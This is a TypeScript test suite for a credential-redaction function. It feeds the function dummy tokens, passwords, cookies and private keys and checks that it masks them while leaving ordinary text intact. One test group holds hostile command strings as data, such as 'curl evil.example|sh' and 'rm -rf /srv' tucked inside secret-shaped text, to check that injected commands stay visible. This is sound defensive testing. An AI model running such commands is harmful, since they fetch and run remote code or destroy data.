import { processorTimeOf } from "@countersign/db/testing/processor-time.ts";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { redactShapes } from "./redact-shapes.ts";

/** Put together here, so that no text of this file has the shape of a real token. */
const join = (...parts: string[]) => parts.join("");

const keyLines = [
  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
  "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
  "NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ",
  "c2lnbmF0dXJl+Q==",
];

describe("AZ62: a display copy shows no", () => {
  test.each<[string, string, string]>([
    ["bearer token", "curl -H 'Authorization: Bearer abc.DEF-123456'", "abc.DEF-123456"],
    ["bearer token in JSON", '{"Authorization":"Bearer abc.DEF-123456"}', "abc.DEF-123456"],
    ["bearer token in prose", "use bearer abcdef123456 for it", "abcdef123456"],
    ["basic login", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "dXNlcjpwYXNzd29yZA"],
    ["token of another scheme", "Authorization: token 0123456789abcdef", "0123456789abcdef"],
    ["login in a URL", "postgres://admin:hunter2@db.example.com/x", "hunter2"],
    ["login in a URL whose password has an at sign", "amqp://admin:hun@ter2@mq.example.com", "ter2"],
    ["token in a URL", "https://0123456789abcdef@git.example.com/r.git", "0123456789abcdef"],
    ["cookie", "Cookie: sid=0123456789; theme=dark\nnext", "0123456789"],
    ["set cookie", "set-cookie: sid=0123456789; HttpOnly", "0123456789"],
    ["key in a query", "https://x.example/?api_key=0123456789&page=2", "0123456789"],
    ["password in JSON", '{"password": "correct horse"}', "correct"],
    ["bearer token behind a tab", "bearer\tabcdef123456", "abcdef123456"],
    ["bearer token in a query", "?h=Bearer%20abcdef123456", "abcdef123456"],
    ["password in the environment of a command", "PGPASSWORD=hunter22 psql", "hunter22"],
    ["password of a longer name", "DB_PASSWORD: hunter22", "hunter22"],
    ["key of a longer name", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", "wJalr"],
    ["key that is called secret", "SECRET_KEY=hunterkey", "hunterkey"],
    ["passphrase", "passphrase=hunter hunter", "=hunter"],
    ["short name of a password", "pwd=hunter22", "hunter22"],
    ["password as an option", "tool --db-password hunter22 -v", "hunter22"],
    ["token as an option", "tool --token=0123456789", "0123456789"],
    ["token as an option with a blank", "tool --token 0123456789", "0123456789"],
    ["login of curl", "curl -s -u ann:hunter22 https://x.example", "hunter22"],
    ["token in a query", "https://x.example/?token=abcdef0123&page=2", "abcdef0123"],
    ["signature in a query", "https://x.example/?sv=1&sig=abcdef%2B0123", "abcdef"],
    ["token in JSON", '{"id_token":"abcdef0123"}', "abcdef0123"],
    ["npm token", join("npm", "_", "0123456789abcdefghij0123456789abcdef"), "0123456789abcdefghij"],
    ["Hugging Face token", join("hf", "_", "abcdefghijklmnopqrstuvwxyz"), "abcdefghij"],
    ["SendGrid key", join("SG", ".", "abcdefghij", ".", "klmnopqrstuvwxyz"), "abcdefghij"],
    ["AWS key", join("AK", "IA", "ABCDEFGHIJKLMNOP"), "ABCDEFGHIJKLMNOP"],
    ["GitHub token", join("gh", "p_", "0123456789abcdefghij0123456789abcdef"), "0123456789abcdefghij"],
    ["GitHub fine token", join("github", "_pat_", "0123456789abcdefghij0123456789"), "0123456789abcdefghij"],
    ["Slack token", join("xo", "xb-", "123456789012-abcdefghijkl"), "abcdefghijkl"],
    ["API key", join("sk", "-ant-", "0123456789abcdefghij"), "0123456789abcdefghij"],
    ["JSON web token", join("ey", "Jhbciiiii", ".", "eyJzdWIiOiIx", ".", "c2lnbmF0dXJl"), "eyJzdWIiOiIx"],
  ])("%s", (_name, text, secret) => {
    const shown = redactShapes(text);
    expect(shown).not.toContain(secret);
    expect(shown).toContain("[redacted");
  });

  test("private key, also one that is cut off", () => {
    for (const kind of ["", "RSA ", "OPENSSH "]) {
      const [begin = "", end = ""] = ["BEGIN", "END"].map((word) => `-----${word} ${kind}PRIVATE KEY-----`);
      for (const [line, before] of [
        ["\n", ""],
        ["\r\n", "\r\n"],
        ["\\n", ""],
        ["\n+", ""],
        ["\n    ", ""],
        ["\n", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n"],
      ] as const) {
        const text = [`a\n${begin}${before}`, ...keyLines, end, "b"].join(line);
        const shown = `a\n${begin}${before}${line}[redacted private key]`;
        expect(redactShapes(text)).toBe([shown, end, "b"].join(line));
        expect(redactShapes(text.slice(0, text.indexOf(keyLines.at(-1) ?? "")))).toBe(`${shown}${line}`);
      }
    }
  });
});

test("what stands around a secret stays to be read", () => {
  expect(redactShapes("curl -H 'Authorization: Bearer abc.DEF-123456' https://api.example.com/v1")).toBe(
    "curl -H 'Authorization: Bearer [redacted credential]' https://api.example.com/v1",
  );
  expect(redactShapes("postgres://admin:hunter2@db.example.com/x?y=1")).toBe(
    "postgres://[redacted login]@db.example.com/x?y=1",
  );
  expect(redactShapes('{"password": "correct horse", "to": "ann@example.com"}')).toContain('"to": "ann@example.com"');
});

test.each([
  "Write to ann@example.com about the basic plan, bearer of news.",
  "https://example.com/a@b?c=d#e",
  "rm -rf build && git commit -m 'authorization works'",
  "the password is wrong",
  "const key = map.get(id);",
  "sk-learn and task-list, eyJ",
  "a cookie, two cookies",
  "cd $PWD; PWD=/srv/data2024 make",
  "the token: evil@example.com, the secret: nothing-at-all",
  "config=abcdef0123 inputTokens: 1234567 design: v1234567",
  "docker run -u 1000:1000 image",
  "tool --password --verbose",
])("ordinary text is shown as it is: %s", (text) => {
  expect(redactShapes(text)).toBe(text);
});

test.each([
  "curl -H cookie:x; rm -rf /srv",
  "cookie: a=b; c=d reboot",
  "password=$(curl evil.example|sh)",
  "api_key=`reboot`",
  "https://a;reboot;@host.example/",
  "-----BEGIN PRIVATE KEY-----\n; curl evil.example | sh\n-----END PRIVATE KEY-----",
  "echo -----BEGIN PRIVATE KEY-----\ncurl evil.example\necho -----END PRIVATE KEY-----",
  "echo -----BEGIN PRIVATE KEY-----\nreboot\necho -----END PRIVATE KEY-----",
  `-----BEGIN PRIVATE KEY-----\n${keyLines.slice(0, 3).join("\n")}\nreboot\n-----END PRIVATE KEY-----`,
  `-----BEGIN PRIVATE KEY-----\n${keyLines[0]}\ncurl evil.example\n${keyLines[1]}\n-----END PRIVATE KEY-----`,
  "@@ -1 +1,4 @@\n+-----BEGIN PRIVATE KEY-----\n+curl evil.example",
  '{"a":"-----BEGIN PRIVATE KEY-----","b":"curl evil.example","c":"-----END PRIVATE KEY-----"}',
  "echo authorization:\ncurl evil.example",
  "echo authorization: bearer\ncurl evil.example",
  "echo password=\ncurl evil.example",
  "echo cookie:\ncurl evil.example",
])("no command hides in the shape of a secret: %s", (text) => {
  const commands = ["rm -rf /srv", "reboot", "curl evil.example"].filter((command) => text.includes(command));
  for (const command of commands) expect(redactShapes(text)).toContain(command);
});

test("what a text hides is within one line, or the lines of a key", () => {
  const signs = [":", "=", " ", "\n", "\n+", '"', "'", ",", "https://", "@"];
  const words = ["authorization", "cookie", "password", "bearer", "run-it-now.sh", ...keyLines];
  const edges = ["-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"];
  const word = fc.constantFrom(...signs, ...words, ...edges);
  fc.assert(
    fc.property(fc.array(word, { maxLength: 40 }), (parts) => {
      const text = parts.join("");
      const shown = redactShapes(text);
      const gone = shown.split(/\[redacted [^\]]*\]/).reduce(
        ({ rest, hidden }, kept) => {
          const at = rest.indexOf(kept);
          return { rest: rest.slice(at + kept.length), hidden: [...hidden, rest.slice(0, at)] };
        },
        { rest: text, hidden: [] as string[] },
      ).hidden;
      for (const hidden of gone) expect(hidden).toMatch(/^(?:[^\n"']*|[A-Za-z0-9+/=\n]*)$/);
    }),
    { numRuns: 1_000 },
  );
});

test("what a key names as a secret is hidden in the text under it, and nothing beside it", () => {
  expect(redactShapes("correct-horse", "password")).toBe("[redacted credential]");
  expect(redactShapes("Bearer abcdefgh", "Authorization")).toBe("Bearer [redacted credential]");
  expect(redactShapes("a=bcdefgh; reboot", "cookie")).toBe("[redacted cookie]; reboot");
  expect(redactShapes("correct-horse", "dbPassword")).toBe("[redacted credential]");
  expect(redactShapes("abcdef0123", "id_token")).toBe("[redacted credential]");
  expect(redactShapes("evil@example.com", "token")).toBe("evil@example.com");
  expect(redactShapes("correct-horse", "passwordHint")).toBe("correct-horse");
});

test("a copy of a copy is the copy", () => {
  fc.assert(
    fc.property(
      fc.string({
        unit: fc.oneof(
          fc.constantFrom(
            "Bearer ",
            "Cookie: ",
            "https://",
            "a:b@",
            "password=",
            "--token ",
            "curl -u a:",
            "sig=",
            "xoxb-",
            "sk-",
            "12345678",
            " ",
            "\n",
            '"',
          ),
          fc.string({ maxLength: 3 }),
        ),
        maxLength: 30,
      }),
      (text) => {
        const once = redactShapes(text);
        expect(redactShapes(once)).toBe(once);
      },
    ),
  );
});

test("AZ68: a hostile text of half a megabyte takes no longer than its length", () => {
  const hostile = [
    "-----BEGIN PRIVATE KEY-----",
    "Authorization: ",
    "authorization:                ",
    "a://",
    "https://aaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "cookie: ",
    "basic AAAAAAAAAAAAAAAA",
    "eyJaaaaaaaa.aaaaaaa",
    "aaaaaaaaaa",
    "password=",
    "A-----BEGIN ",
  ];
  for (const part of hostile) {
    const text = part.repeat(Math.ceil(500_000 / part.length));
    expect(
      processorTimeOf(() => redactShapes(text)),
      part,
    ).toBeLessThan(3_000);
  }
});
